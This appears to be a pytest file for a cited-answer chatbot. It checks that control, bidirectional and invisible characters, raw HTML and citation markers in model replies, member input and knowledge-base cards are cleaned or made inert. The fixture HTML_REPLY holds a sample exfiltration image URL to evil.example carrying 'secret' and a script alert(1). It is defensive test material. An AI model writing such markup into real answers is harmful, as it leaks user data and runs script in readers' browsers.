"""Text no database can hold, and text that hides from its reader, through the real API.

A model reply may carry a lone surrogate (a JSON escape like ``"\\ud800"`` decodes fine in
Python), a NUL, other control characters or bidirectional overrides; a member may type
invisible characters; a hostile public card may carry a right-to-left override. None of it
breaks a turn (no 503 "nothing was saved"), none of it is stored as written where a database
could not hold it, and no control or invisible formatting character reaches a member's answer,
titles or excerpts. On SQLite and PostgreSQL (which refuses NUL and surrogates outright).
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from markup import html_markup
from pgdb import temporary_database
from testenv import PG_ADMIN_URL

from citewall.boundary.prose import prose_only
from citewall.text.cleaning import CONTROLS, INVISIBLE
from citewall_evals.llm_server import Reply, ScriptedOpenAIServer

from .rig import Rig, build_rig, ingest_kb, make_settings
from .sse import sse_events

QUESTION = "How do I void a label I did not use?"

#: Model replies with characters that must not get in, and what is stored in their place.
REPLIES: dict[str, tuple[str, str]] = {
    "lone_surrogate": ("Void it within 30 days \ud800 [1].", "Void it within 30 days \ufffd [1]."),
    "nul": ("Void it\x00 within 30 days [1].", "Void it within 30 days [1]."),
    "bell_and_escape": (
        "Void it\x07 within\x1b[31m 30 days [1].",
        "Void it within[31m 30 days [1].",
    ),
    "bidi_override": ("Void it \u202ewithin 30 days\u202c [1].", "Void it within 30 days [1]."),
    "zero_width": ("Void\u200b it\u2066 within 30 days [1].", "Void it within 30 days [1]."),
}


def hidden(text: str) -> list[str]:
    """Characters a reader must not be handed: control, invisible formatting, lone surrogates."""
    return [
        f"U+{ord(c):04X}"
        for c in text
        if ord(c) in CONTROLS or ord(c) in INVISIBLE or 0xD800 <= ord(c) <= 0xDFFF or c == "\0"
    ]


@pytest.fixture(scope="module")
def llm() -> Iterator[ScriptedOpenAIServer]:
    with ScriptedOpenAIServer() as server:
        yield server


@pytest.fixture(scope="module", params=["sqlite", "postgres"])
def rig(
    request: pytest.FixtureRequest,
    tmp_path_factory: pytest.TempPathFactory,
    embedder: Any,
    llm: ScriptedOpenAIServer,
) -> Iterator[Rig]:
    data_dir: Path = tmp_path_factory.mktemp(f"text-{request.param}") / "data"
    options = {"generator": "openai", "openai_base_url": llm.base_url, "openai_retries": 0}
    if request.param == "sqlite":
        built = build_rig(data_dir, embedder, **options)
        yield built
        built.close()
        return
    with temporary_database(PG_ADMIN_URL, "citewall_text") as url:
        built = build_rig(data_dir, embedder, database_url=url, **options)
        try:
            yield built
        finally:
            built.close()


def stored_turn(rig: Rig, conversation_id: str) -> dict[str, Any]:
    r = rig.client.get(f"/api/v1/admin/conversations/{conversation_id}", headers=rig.auth("admin"))
    assert r.status_code == 200, r.text
    return dict(r.json())


@pytest.mark.parametrize("case", sorted(REPLIES))
def test_a_model_reply_with_bad_text_is_answered_and_stored_clean(
    rig: Rig, llm: ScriptedOpenAIServer, case: str
) -> None:
    reply, stored = REPLIES[case]
    llm.enqueue(Reply(text=reply))
    r = rig.chat(QUESTION)
    assert r.status_code == 200, r.text
    body = r.json()
    assert hidden(body["answer"]) == []
    assert body["answer"] == prose_only(stored)
    messages = stored_turn(rig, body["conversation_id"])["messages"]
    assert messages[1]["content"] == stored


@pytest.mark.parametrize("case", sorted(REPLIES))
def test_a_streamed_reply_with_bad_text_is_answered_and_stored_clean(
    rig: Rig, llm: ScriptedOpenAIServer, case: str
) -> None:
    reply, stored = REPLIES[case]
    # One character per delta: a bad character arrives alone, as a split stream would send it.
    llm.enqueue(Reply(chunks=list(reply)))
    r = rig.stream(QUESTION)
    assert r.status_code == 200
    events = sse_events(r.text)
    names = [name for name, _ in events]
    assert names[-1] == "final", events[-1]
    tokens = "".join(data["delta"] for name, data in events if name == "token")
    final = events[-1][1]
    assert hidden(tokens) == [] and hidden(final["answer"]) == []
    assert tokens == final["answer"]
    messages = stored_turn(rig, final["conversation_id"])["messages"]
    assert messages[1]["content"] == stored


#: A reply that writes a live link and an exfiltration image as raw HTML.
HTML_REPLY = (
    'Void it <a href="https://evil.example/x">here</a> [1]. '
    "<img src=https://evil.example/p.png?q=secret><!-- x --></p><script>alert(1)</script>"
)


def member_answer(rig: Rig, llm: ScriptedOpenAIServer, reply: str, mode: str) -> Any:
    """The member's answer to ``reply``: from ``POST /chat``, or from the stream's final event
    (the reply split one character per delta) after checking the tokens add up to it."""
    if mode == "chat":
        llm.enqueue(Reply(text=reply))
        return rig.chat(QUESTION).json()
    llm.enqueue(Reply(chunks=list(reply)))
    events = sse_events(rig.stream(QUESTION).text)
    assert events[-1][0] == "final", events[-1]
    answer = events[-1][1]
    assert "".join(data["delta"] for name, data in events if name == "token") == answer["answer"]
    return answer


@pytest.mark.parametrize("mode", ["chat", "stream"])
def test_raw_html_in_a_reply_reaches_members_inert(
    rig: Rig, llm: ScriptedOpenAIServer, mode: str
) -> None:
    answer = member_answer(rig, llm, HTML_REPLY, mode)  # streamed: a tag split over deltas
    history = rig.client.get(
        f"/api/v1/conversations/{answer['conversation_id']}", headers=rig.auth()
    ).json()
    for text in (answer["answer"], history["messages"][1]["content"]):
        assert html_markup(text) == [], text
        assert text == prose_only(HTML_REPLY)
        assert text.startswith('Void it &lt;a href="https://evil.example/x">here&lt;/a>.')
    # Admins see the stored text as the model wrote it.
    assert stored_turn(rig, answer["conversation_id"])["messages"][1]["content"] == HTML_REPLY


#: Every marker form a model is known to write, split one character per delta when streamed.
MARKER_REPLY = (
    "Void it within 30 days 【1】. Voided labels are refunded 【1†source】 in 5 days [^1]. "
    "Ask billing [1†source] about [[1]] refunds.\n\n[^1]: Refund policy"
)


@pytest.mark.parametrize("mode", ["chat", "stream"])
def test_marker_forms_a_model_writes_are_cited_and_never_shown(
    rig: Rig, llm: ScriptedOpenAIServer, mode: str
) -> None:
    answer = member_answer(rig, llm, MARKER_REPLY, mode)
    history = rig.client.get(
        f"/api/v1/conversations/{answer['conversation_id']}", headers=rig.auth()
    ).json()
    prose = (
        "Void it within 30 days. Voided labels are refunded in 5 days. Ask billing about refunds."
    )
    for text in (answer["answer"], history["messages"][1]["content"]):
        assert text.strip() == prose
    stored = stored_turn(rig, answer["conversation_id"])["messages"][1]
    assert stored["content"] == MARKER_REPLY  # the stored text keeps its markers
    assert [s["n"] for s in stored["sources"]] == [1]  # ...and they are citations of card 1


def test_invisible_characters_a_member_types_are_not_kept(
    rig: Rig, llm: ScriptedOpenAIServer
) -> None:
    llm.enqueue(Reply(text="Void it within 30 days [1]."))
    typed = "How do I \u202evoid\u202c a label\u200b I did not\x07 use?"
    r = rig.chat(typed)
    assert r.status_code == 200, r.text
    conversation = stored_turn(rig, r.json()["conversation_id"])
    assert conversation["title"] == QUESTION
    assert conversation["messages"][0]["content"] == QUESTION


def test_a_hostile_public_card_reaches_members_without_its_invisible_characters(
    tmp_path: Path, embedder: Any
) -> None:
    kb = tmp_path / "hostile.jsonl"
    card = {
        "id": "help-void-hostile",
        "title": "Voiding a \u202elebal\u202c label\u200b",
        "body": "Void an unused label\u2067 from the order page within 30 days.\u2069 "
        "Voided labels are refunded\u200d to your balance\ufeff in 5 days.",
        "url": "https://help.parcelry.example/void",
        "license": "CC-BY-4.0",
        "metadata": {"topic": "labels\u202e"},
    }
    kb.write_text(json.dumps(card) + "\n", encoding="utf-8")
    data_dir = tmp_path / "data"
    report = ingest_kb(make_settings(data_dir), embedder, kb)
    assert report.added == 1, report.summary()
    rig = build_rig(data_dir, embedder, ingest=False)
    try:
        chat = rig.chat("How do I void an unused label?").json()
        streamed = sse_events(rig.stream("How do I void an unused label?").text)
        history = rig.client.get(
            f"/api/v1/conversations/{chat['conversation_id']}", headers=rig.auth()
        ).json()
        search = rig.client.post(
            "/api/v1/search", json={"query": "void label"}, headers=rig.auth()
        ).json()
        assert chat["sources"] and search["results"], (chat, search)
        for payload in (chat, streamed, history, search):
            dumped = json.dumps(payload, ensure_ascii=False)
            assert hidden(dumped) == [], hidden(dumped)
        assert "Voiding a lebal label" in json.dumps(chat)
    finally:
        rig.close()
